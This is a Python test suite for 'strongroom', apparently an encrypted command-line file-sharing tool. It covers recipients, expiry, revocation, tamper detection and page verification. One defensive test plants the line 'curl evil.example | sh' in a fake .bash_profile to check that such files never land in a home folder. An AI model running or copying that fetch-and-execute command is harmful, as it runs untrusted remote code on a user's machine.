"""Files from one person to another by the command line, through a real Vault, Authenticator and share server."""

import asyncio
import base64
import contextlib
import hashlib
import io
import json
import os
import re
import stat
import webbrowser
from typing import Any
from unittest import mock

import httpx
import msgspec
import pytest

from strongroom.cli.main import run
from strongroom.cli.sharing import print_entries
from strongroom.client.share.format import DeskEntry
from tests.support.browse import walk
from tests.support.command import Ran, strongroom
from tests.support.share_host import built_page, front
from tests.support.site import Site

pytestmark = pytest.mark.needs("oidc")
MIB = 1 << 20


def in_process(*arguments, cwd, user=None):
    """The command in this process, which saves seconds each time; `user` (or each of several) is at the browser."""
    people = iter(user.split("+") if user else [])

    def browse(url):
        walk(next(people), url)
        return True

    out, err = (io.TextIOWrapper(io.BytesIO(), write_through=True) for _ in range(2))
    streams = contextlib.redirect_stdout(out), contextlib.redirect_stderr(err)
    with contextlib.chdir(cwd), streams[0], streams[1], mock.patch.object(webbrowser, "open", browse):
        status = run([*map(str, arguments)])
    return Ran(status, out.buffer.getvalue(), err.buffer.getvalue().decode())


class Sharing(Site):
    """A site, and the command line in its client's folder."""

    def approve(self):
        """As the user would after they compared the digest."""
        shown = self.strongroom("share", "list", "--site", self.origin)
        assert shown.status == 2
        digest = hashlib.sha256(self.trust_json.read_bytes()).hexdigest()
        assert re.search(rf"statement +{digest}", shown.err)
        with (self.folder / "strongroom.toml").open("a") as file:
            file.write(f'site = "{self.origin}"\nstatement = "{digest}"\n')

    def run(self, *arguments, user=None, cwd=None):
        return in_process("share", *arguments, user=user, cwd=cwd or self.folder)

    def send(self, *arguments, user="alice"):
        ran = self.run("send", *arguments, "--json", user=user)
        assert ran.status == 0, ran.err
        return json.loads(ran.out)["link"]

    def receive(self, link, folder, *arguments, user="bob"):
        folder.mkdir(exist_ok=True)
        return self.run("receive", link, "-o", folder, *arguments, user=user)

    def listed(self, user="alice"):
        return json.loads(self.run("list", "--json", user=user).out)["shares"]

    @property
    def held(self):
        """All that the share server keeps."""
        return contents(self.servers / "share")


def sealed_page(folder):
    """A page whose documents name their scripts by digest, as the build makes them."""
    script = b"console.log('strongroom');"
    integrity = base64.b64encode(hashlib.sha384(script).digest()).decode()
    tag = f'<script type="module" src="/assets/index-Ab12Cd34.js" integrity="sha384-{integrity}"></script>'
    index = f"<!doctype html><title>Strongroom</title>{tag}".encode()
    return built_page(folder, **{"index.html": index, "assets/index-Ab12Cd34.js": script})


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("share")
    with Sharing(folder / "site", page=sealed_page(folder / "page"), max_bytes=64 * MIB) as site:
        site.approve()
        yield site


@pytest.fixture
def report(site, tmp_path):
    folder = tmp_path / "audit"
    (folder / "annex").mkdir(parents=True)
    (folder / "report.pdf").write_bytes(b"%PDF recipe for hacking them " + os.urandom(3 * MIB))
    (folder / "annex" / "empty.txt").write_bytes(b"")
    (folder / "annex" / "Ünïcode☂.csv").write_bytes(b"a,b\n")
    return folder


def contents(folder):
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_who_names_no_folder_gets_no_hidden_file_into_their_home(site, tmp_path):
    (tmp_path / ".bash_profile").write_bytes(b"curl evil.example | sh")
    (tmp_path / "home").mkdir()
    link = site.send(tmp_path / ".bash_profile", "--for", "bob@example.com")
    config = ("--config", site.folder / "strongroom.toml")
    got = site.run("receive", link, *config, user="bob", cwd=tmp_path / "home")
    assert got.status != 0
    assert "where programs look" in got.err
    assert contents(tmp_path / "home") == {}
    assert site.receive(link, tmp_path / "chosen").status == 0
    assert set(contents(tmp_path / "chosen")) == {".bash_profile"}


def test_files_go_from_one_person_to_another(site, report, tmp_path):
    said = ("--title", "Audit", "--message", "Handle with care.")
    link = site.send(report, "--for", "bob@example.com", *said)
    assert re.fullmatch(rf"{site.origin}/#/s/[0-9a-f]{{32}}", link)
    listed = site.run("receive", link, "--list", "--json", user="bob")
    assert listed.status == 0, listed.err
    found = json.loads(listed.out)
    assert (found["from"], found["title"], found["message"]) == ("alice@example.com", "Audit", "Handle with care.")
    assert {one["path"] for one in found["files"]} == {f"audit/{path}" for path in contents(report)}

    (tmp_path / "got").mkdir()
    got = strongroom("share", "receive", link, "-o", tmp_path / "got", cwd=site.folder, user="bob")
    assert got.status == 0, got.err
    assert "from           alice@example.com" in got.err
    assert contents(tmp_path / "got" / "audit") == contents(report)
    assert stat.S_IMODE((tmp_path / "got" / "audit" / "report.pdf").stat().st_mode) == 0o600
    assert sorted(got.out.decode().split()) == sorted(
        str(tmp_path / "got" / "audit" / path) for path in contents(report)
    )

    again = site.receive(link, tmp_path / "got")
    assert again.status == 2
    assert "exists already, and receive never replaces a file" in again.err
    assert contents(tmp_path / "got" / "audit") == contents(report)


def test_nobody_else_opens_it_not_even_the_sender(site, report, tmp_path):
    link = site.send(report, "--for", "bob@example.com")
    for user in ("mallory", "alice"):
        ran = site.receive(link, tmp_path / "stolen", user=user)
        assert ran.status == 10
        assert "with the address it was sent to" in ran.err
    assert contents(tmp_path / "stolen") == {}


@pytest.fixture
def stranger(site, tmp_path):
    """A folder of somebody who has approved no site; their own instructions name another provider."""
    folder = tmp_path / "stranger"
    folder.mkdir()
    own = (site.folder / "instructions.toml").read_text().replace(site.provider.issuer, "https://login.example.com")
    (folder / "instructions.toml").write_text(own)
    (folder / "strongroom.toml").write_text(
        f'vault = "{site.vault}"\ntrust = "{site.folder / "trust.toml"}"\ninstructions = "instructions.toml"\n'
    )
    return folder


def test_a_share_is_no_way_to_bring_somebody_to_the_sender_s_own_sign_in_page(site, report, stranger):
    """RULES 14: the provider stands in the record, which the sender wrote."""
    link = site.send(report, "--for", "bob@example.com")
    asked = json.loads(site.run("request", "--from", "bob@example.com", "--json", user="alice").out)["link"]
    record = link.rpartition("/")[2]
    commands = (
        ("share", "receive", link, "-o", stranger),
        ("share", "answer", asked, report, "--yes"),
        ("collect", record, "-o", stranger / "stolen"),
        ("delete", record, "--yes"),
    )
    for command in commands:
        ran = in_process(*command, cwd=stranger, user="bob")
        assert ran.status == 2, ran.err
        assert f"sign-in at     {site.provider.issuer}" in ran.err
        assert f"--issuer {site.provider.issuer}" in ran.err
        assert "a page opens" not in ran.err
        assert "signed in" not in ran.err
    got = in_process(
        "share", "receive", link, "-o", stranger, "--issuer", site.provider.issuer, cwd=stranger, user="bob"
    )
    assert got.status == 0, got.err
    assert contents(stranger / "audit") == contents(report)


@pytest.mark.parametrize(("typed", "status"), [("y\n", 0), ("n\n", 2), ("\n", 2)])
def test_on_a_terminal_a_new_provider_is_shown_by_name_and_approved(site, report, stranger, monkeypatch, typed, status):
    link = site.send(report, "--for", "bob@example.com")
    terminal = io.StringIO(typed)
    monkeypatch.setattr(terminal, "isatty", lambda: True, raising=False)
    monkeypatch.setattr("sys.stdin", terminal)
    ran = in_process("share", "receive", link, "-o", stranger, cwd=stranger, user="bob")
    assert ran.status == status, ran.err
    assert f"sign-in at     {site.provider.issuer}" in ran.err
    assert ("signed in as" in ran.err) is (status == 0)


def test_what_is_named_in_a_namespace_of_ones_choice_is_collected_unasked(site, stranger, tmp_path):
    (tmp_path / "key").write_bytes(b"k")
    said = ("--name", "unasked", "--for", "bob@example.com")
    stored = in_process("store", tmp_path / "key", *said, cwd=site.folder, user="alice")
    assert stored.status == 0, stored.err
    ran = in_process("collect", "share/unasked", "-o", stranger / "key", cwd=stranger, user="bob")
    assert ran.status == 0, ran.err
    assert "sign-in at  " not in ran.err


def test_an_altered_statement_approves_no_provider(site, report, stranger):
    link = site.send(report, "--for", "bob@example.com")
    with (stranger / "strongroom.toml").open("a") as file:
        file.write(f'site = "{site.origin}"\nstatement = "{"0" * 64}"\n')
    assert in_process("share", "receive", link, "-o", stranger, cwd=stranger, user="bob").status == 2
    text = (stranger / "strongroom.toml").read_text()
    digest = hashlib.sha256(site.trust_json.read_bytes()).hexdigest()
    (stranger / "strongroom.toml").write_text(text.replace("0" * 64, digest))
    assert in_process("share", "receive", link, "-o", stranger, cwd=stranger, user="bob").status == 0


def test_the_host_holds_no_name_no_title_and_no_byte_of_it(site, tmp_path):
    secret = tmp_path / "very-telling-name.txt"
    secret.write_bytes(b"the one sentence that must not be found " * 10)
    link = site.send(secret, "--for", "bob@example.com", "--title", "telling title")
    assert site.receive(link, tmp_path / "got").status == 0
    held = site.held
    assert held
    for needle in (b"very-telling-name", b"telling title", b"the one sentence", b"bob@example.com", b"AGE-SECRET-KEY"):
        assert not [path for path, data in held.items() if needle in data]


def test_a_share_opens_as_often_as_was_said(site, report, tmp_path):
    link = site.send(report, "--for", "bob@example.com", "--for", "carol@example.com", "--opens", "1")
    assert site.receive(link, tmp_path / "first").status == 0
    second = site.receive(link, tmp_path / "second", user="carol")
    assert second.status == 10
    assert "as often as it may be" in second.err
    record = link.rpartition("/")[2]
    extended = site.run("extend", record, "--opens", "3", "--json", user="alice")
    assert extended.status == 0, extended.err
    assert site.receive(link, tmp_path / "second", user="carol").status == 0
    journal = site.run("history", record, "--json", user="alice")
    assert journal.status == 0, journal.err
    found = json.loads(journal.out)
    assert (found["opens"], found["max_opens"]) == (2, 3)
    collected = [(one["who"], one["outcome"]) for one in found["visits"] if one["action"] == "collect"]
    assert collected == [("bob@example.com", 0), ("carol@example.com", 209), ("carol@example.com", 0)]
    shown = site.run("history", link, user="alice")
    assert "opened 2 of 3 times" in shown.err
    assert "carol@example.com" in shown.out.decode()


def test_a_revoked_share_is_closed_and_its_blob_is_gone(site, report, tmp_path):
    link = site.send(report, "--for", "bob@example.com")
    record = link.rpartition("/")[2]
    before = sum(len(data) for data in site.held.values())
    asked = site.run("revoke", record, user="alice")
    assert asked.status == 2
    assert "--yes" in asked.err
    revoked = site.run("revoke", record, "--yes", user="alice")
    assert revoked.status == 0, revoked.err
    late = site.receive(link, tmp_path / "late")
    assert late.status == 10
    assert "has closed it" in late.err
    assert sum(len(data) for data in site.held.values()) < before - 2 * MIB
    listed = site.listed()
    assert {one["state"] for one in listed if one["id"] == record} == {"revoked"}
    refused = site.run("extend", record, "--days", "3", user="alice")
    assert refused.status == 2
    assert "for good" in refused.err


def test_a_recipient_is_added_and_the_others_stay(site, report, tmp_path):
    link = site.send(report, "--for", "bob@example.com")
    assert site.receive(link, tmp_path / "early", user="carol").status == 10
    added = site.run("extend", link, "--for", "Carol@example.com", "--days", "30", user="alice")
    assert added.status == 0, added.err
    assert site.receive(link, tmp_path / "carol", user="carol").status == 0
    assert site.receive(link, tmp_path / "bob", user="bob").status == 0


def test_an_expired_share_says_so(site, report, tmp_path, monkeypatch):
    link = site.send(report, "--for", "bob@example.com", "--expires", "1h")
    assert site.receive(link, tmp_path / "got").status == 0
    refused = site.run("send", report, "--for", "b@example.com", "--expires", "100d", user="alice")
    assert refused.status == 2
    assert "at most 90 days" in refused.err


def test_two_people_open_together_what_asks_for_two(site, report, tmp_path):
    link = site.send(report, "--for", "bob@example.com", "--second", "carol@example.com")
    alone = site.receive(link, tmp_path / "alone")
    assert alone.status == 10
    assert "--second-person" in alone.err
    together = site.receive(link, tmp_path / "together", "--second-person", user="bob+carol")
    assert together.status == 0, together.err
    assert contents(tmp_path / "together" / "audit") == contents(report)
    strangers = site.receive(link, tmp_path / "strangers", "--second-person", user="mallory+carol")
    assert strangers.status == 10


def test_files_that_were_asked_for_reach_who_asked_and_nobody_else(site, report, tmp_path):
    asked = site.run("request", "--from", "bob@example.com", "--title", "Rules", "--json", user="alice")
    assert asked.status == 0, asked.err
    link = json.loads(asked.out)["link"]
    assert "/#/r/" in link
    entry = next(one for one in site.listed() if one["link"] == link)
    early = site.receive(entry["answer"], tmp_path / "early", user="alice")
    assert early.status == 12
    assert "nobody has answered" in early.err
    unasked = site.run("answer", link, report, "--yes", user="mallory")
    assert unasked.status == 10
    assert "this account was not asked" in unasked.err
    answered = site.run("answer", link, report, "--yes", user="bob")
    assert answered.status == 0, answered.err
    assert "asked by       alice@example.com" in answered.err
    for user in ("bob", "mallory"):
        assert site.receive(entry["answer"], tmp_path / user, user=user).status == 10
    got = site.receive(entry["answer"], tmp_path / "got", user="alice")
    assert got.status == 0, got.err
    assert "from           bob@example.com" in got.err
    assert contents(tmp_path / "got" / "audit") == contents(report)
    twice = site.run("answer", link, report, "--yes", user="bob")
    assert twice.status == 10
    assert "has been answered already" in twice.err
    own = site.run("receive", link, user="alice")
    assert own.status == 2
    assert f"the answer is at {entry['answer']}" in own.err
    assert "share answer LINK" in site.run("receive", link, user="bob").err


@pytest.mark.parametrize("at", [100, MIB + 5, -100])
def test_a_blob_that_the_host_altered_is_not_written(site, report, tmp_path, at):
    link = site.send(report, "--for", "bob@example.com")
    path = max(
        (
            one
            for one in (site.servers / "share" / "blobs").rglob("*")
            if one.is_file() and one.stat().st_size > 2 * MIB
        ),
        key=lambda one: one.stat().st_mtime_ns,
    )
    data = bytearray(path.read_bytes())
    data[at] ^= 1
    path.write_bytes(data)
    ran = site.receive(link, tmp_path / "got")
    assert ran.status == 11
    assert "the file was altered or damaged" in ran.err
    assert "audit/report.pdf" not in contents(tmp_path / "got")
    assert not [name for name in contents(tmp_path / "got") if name.endswith(".part")]


def test_a_statement_that_changed_is_refused_before_anybody_signs_in(site, report):
    refused = site.run(
        "send",
        report,
        "--for",
        "bob@example.com",
        "--site",
        site.origin,
        "--statement",
        "0" * 64,
        user="alice",
    )
    assert refused.status == 11
    assert "is not the one you approved" in refused.err
    assert "Sign in" not in refused.err


def test_an_unapproved_statement_is_shown_and_nothing_is_sent(site, report, tmp_path):
    (tmp_path / "strongroom.toml").write_text(f'trust = "{site.folder / "trust.toml"}"\n')
    ran = site.run("send", report, "--for", "bob@example.com", "--site", site.origin, user="alice", cwd=tmp_path)
    assert ran.status == 2
    assert site.provider.issuer in ran.err
    assert "signed in" not in ran.err


def test_a_site_whose_page_could_not_sign_anybody_in_gets_no_statement(site, tmp_path):
    text = (site.folder / "instructions.toml").read_text().replace("/callback", "/elsewhere")
    (tmp_path / "instructions.toml").write_text(text)
    ran = site.run(
        "site", "--vault", "http://127.0.0.1:1", "--authenticator", "http://127.0.0.1:2", "--instructions",
        tmp_path / "instructions.toml", "--origin", site.origin, "--name", "X", "--contact", "mailto:a@example.com",
        "--output", tmp_path / "trust.json",
    )  # fmt: skip
    assert ran.status == 2
    assert "web_redirect_uri" in ran.err
    assert not (tmp_path / "trust.json").exists()


def test_a_list_is_whole_in_a_pipe_and_a_line_each_on_a_narrow_terminal(monkeypatch, capsys):
    words: dict[str, Any] = {
        "kind": "share",
        "groups": [],
        "second": None,
        "passkeys": [],
        "max_opens": 0,
        "sent_at": 1,
        "size": 1,
    }
    words |= {"id": "0" * 32, "title": "A title of many words " * 5, "expires_at": 1, "files": 1, "state": "sent"}
    people = [f"somebody.{number}@example.com" for number in range(9)]
    entry = msgspec.convert({**words, "blob": "0" * 32, "box": None, "recipients": people}, DeskEntry)
    print_entries([entry, entry])
    assert ", ".join(people) in capsys.readouterr().out
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setattr("rich.console.Console.is_terminal", True)
    print_entries([entry, entry])
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3
    assert all("0" * 32 in line and "…" in line and "sent" in line for line in lines[1:])


# --- the page -------------------------------------------------------------------------------------------------


def test_a_page_that_is_as_released_is_said_to_be(site, tmp_path):
    ran = in_process("verify-page", site.origin, "--dist", site.page, cwd=tmp_path)
    assert ran.status == 0, ran.out.decode()
    shown = ran.out.decode()
    assert "as released: every file, reference and security header" in shown
    assert f"vault claims (any genuine Vault)\n{'':15}{site.page_digest}\n" in shown
    assert f"trust.json     {hashlib.sha256(site.trust_json.read_bytes()).hexdigest()}" in shown
    link = f"{site.origin}/#/s/{'0' * 32}"  # as a customer has it
    assert in_process("verify-page", link, "--page", site.page_digest, cwd=tmp_path).status == 0
    release = (
        'version = "0.1.0"\nrole = "vault"\nkind = "sgx"\ntcb = "{tcb}"\nbuilt = "{built}"\npage = "{page}"\n'
        '[registers]\nMRENCLAVE = "{tcb}"\n'
    )
    file = tmp_path / f"{'0' * 64}.toml"
    for page, status in ((site.page_digest, 0), ("1" * 64, 11)):
        file.write_text(release.format(tcb="0" * 64, built="0" * 40, page=page))
        assert in_process("verify-page", site.origin, "--release", file, cwd=tmp_path).status == status


def test_another_page_than_the_released_one_is_refused(site, tmp_path):
    ran = in_process("verify-page", site.origin, "--page", "0" * 64, "--json", cwd=tmp_path)
    assert ran.status == 11
    found = json.loads(ran.out)
    assert (found["verdict"], found["page"]) == ("differs", site.page_digest)
    other = sealed_page(tmp_path / "page")
    (other / "more.js").write_bytes(b"")
    built_page(other, **{"index.html": (other / "index.html").read_bytes(), "more.js": b"", "sw.js": b"another"})
    ran = in_process("verify-page", site.origin, "--dist", other, cwd=tmp_path)
    assert ran.status == 11
    assert "differs: more.js is missing" in ran.out.decode()
    assert "differs: sw.js is another file than in that page" in ran.out.decode()


def swapped_script(path, answer):
    return answer.content + b"//" if path.endswith(".js") else answer.content


@pytest.mark.parametrize(
    ("swap", "words"),
    [
        (swapped_script, "is not the file that page.json lists"),
        (lambda path, answer: answer.content.replace(b"<title>", b"<title>x"), "is not the file that page.json lists"),
        (lambda path, answer: b"" if path == "/trust.json" else answer.content, None),
        (lambda path, answer: b"x" if path.startswith("/vault") else answer.content, None),
    ],
)
async def test_a_front_that_swaps_a_file_is_found(site, tmp_path, swap, words):
    async with httpx.AsyncClient(base_url=site.origin, trust_env=False) as client:

        async def carry(method, path, headers, body):
            answer = await client.get(path, headers={"accept-encoding": "identity"})
            content = swap(path, answer)
            lines = [f"HTTP/1.1 {answer.status_code} X", f"content-length: {len(content)}"]
            dropped = ("content-length", "transfer-encoding", "connection")
            lines += [f"{name}: {value}" for name, value in answer.headers.items() if name not in dropped]
            return "\r\n".join([*lines, "", ""]).encode() + content

        async with front(carry) as url:
            ran = await asyncio.to_thread(in_process, "verify-page", url, "--dist", site.page, cwd=tmp_path)
    if words is None:
        assert ran.status == 0  # the operator's own file, and a Vault that says nothing: shown, not judged
        assert hashlib.sha256(site.trust_json.read_bytes()).hexdigest() not in ran.out.decode() or (
            f"{'':15}{site.page_digest}" not in ran.out.decode()
        )
    else:
        assert ran.status == 11
        assert words in ran.out.decode()


# --- mistakes -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "error"),
    [
        (["share", "receive", "https://share.example.com/#/s/12"], "is not the link of a share"),
        (["share", "receive", "http://share.example.com/#/s/" + "0" * 32], "is not the address of a site"),
        (["share", "receive", "https://share.example.com/#/r/" + "0" * 32], "not the link of a share"),
        (["share", "receive", "https://s.example.com/#/s/" + "0" * 32 + "?key=1"], "is not the link of a share"),
        (["share", "receive", "https://s.example.com/#/s/" + "0" * 32, "-o", "none"], "not a folder"),
        (["share", "send", "none.txt", "--for", "bob@example.com"], "can't read none.txt"),
        (["share", "send", "there"], "nobody is to receive this"),
        (["share", "send", "there", "--for", "bob"], "not an e-mail address"),
        (["share", "send", "there", "--for", "b@example.com", "--second", "B@example.com"], "a recipient already"),
        (["share", "send", "there", "--for", "b@example.com", "--require-passkey", "there"], "not a passkey card"),
        (["share", "extend", "0" * 32], "nothing to change"),
        (["share", "history", "12"], "not the id of a share"),
        (["share", "send", "there", "--for", "b@example.com"], "--trust is missing"),
        (["verify-page", "https://s.example.com", "--page", "12"], "not the digest of a page"),
        (["verify-page", "https://s.example.com", "--page", "0" * 64, "--dist", "."], "exclude each other"),
        (["verify-page", "https://s.example.com", "--dist", "none"], "can't read"),
        (["verify-page", "https://s.example.com/x", "--page", "0" * 64], "not the address of a site"),
    ],
)
def test_a_mistake_is_two_lines_and_status_2(tmp_path, monkeypatch, capsys, arguments, error):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "there").write_text("not a card")
    assert run(arguments) == 2
    first, second = capsys.readouterr().err.strip().splitlines()[-2:]
    assert first.startswith("error: ")
    assert error in first
    assert second.startswith("hint: ")
